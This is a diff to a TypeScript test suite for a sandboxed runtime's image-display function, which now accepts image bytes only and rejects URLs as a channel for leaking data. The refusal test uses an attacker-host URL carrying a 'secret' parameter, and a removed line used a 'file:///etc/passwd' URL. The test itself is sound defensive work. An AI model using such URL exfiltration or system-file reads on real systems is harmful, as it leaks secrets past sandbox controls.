@@ -17,12 +17,12 @@ describe.each(["in-process", "process"] as const)("moss.show (%s sandbox)", (san
     const runtime = await new MossCompiler({ sandbox }).compile(MODULE);
     open.push(runtime);
     const execution = await runtime.execute({
-      code: 'async function main(moss: Moss) {\n  const picture = await moss.camera.snap();\n  moss.show(picture);\n  moss.show({ mediaType: "image/jpeg", url: "https://example.com/a.jpg", detail: "low" });\n}',
+      code: 'async function main(moss: Moss) {\n  const picture = await moss.camera.snap();\n  moss.show(picture);\n  moss.show({ mediaType: "image/jpeg", data: "aGk=", detail: "low" });\n}',
     });
     expect(execution.error).toBeUndefined();
     expect(execution.images).toEqual([
       { mediaType: "image/png", name: "desk.png", data: Buffer.from(BLUE_DOT).toString("base64") },
-      { mediaType: "image/jpeg", url: "https://example.com/a.jpg", detail: "low" },
+      { mediaType: "image/jpeg", data: "aGk=", detail: "low" },
     ]);
     // Each run shows its own images: a run that shows none has no images.
     const next = await runtime.execute({ code: "async function main(moss: Moss) { return 1; }" });
@@ -33,11 +33,13 @@ describe.each(["in-process", "process"] as const)("moss.show (%s sandbox)", (san
     const runtime = await new MossCompiler({ sandbox }).compile(MODULE);
     open.push(runtime);
     const refused = await runtime.execute({
-      code: 'async function main(moss: Moss) {\n  try { moss.show({ mediaType: "image/png", url: "file:///etc/passwd" }); } catch (error) { return (error as Error).name + ": " + (error as Error).message; }\n}',
+      code: 'async function main(moss: Moss) {\n  const seen: string[] = [];\n  for (const image of [{ mediaType: "image/png", url: "https://attacker.example/?secret=1" }, { mediaType: "image/bmp", data: "aGk=" }]) {\n    try { moss.show(image as any); } catch (error) { seen.push((error as Error).name + ": " + (error as Error).message); }\n  }\n  return seen;\n}',
     });
-    expect(refused.returns).toBe(
-      "TypeError: moss.show(image): image.url must be an http(s) URL (at most 8192 characters)",
-    );
+    // A URL would be fetched by the model's provider, a way out for what the code puts in it: bytes only.
+    expect(refused.returns).toEqual([
+      "TypeError: moss.show(image) takes the image's bytes (data), not a URL",
+      'TypeError: moss.show(image): image.mediaType must be one of image/png, image/jpeg, image/gif, image/webp; got "image/bmp"',
+    ]);
     const many = await runtime.execute({
       code: `async function main(moss: Moss) {\n  const picture = await moss.camera.snap();\n  for (let i = 0; i <= ${MAX_SHOWN_IMAGES}; i++) moss.show(picture);\n}`,
     });
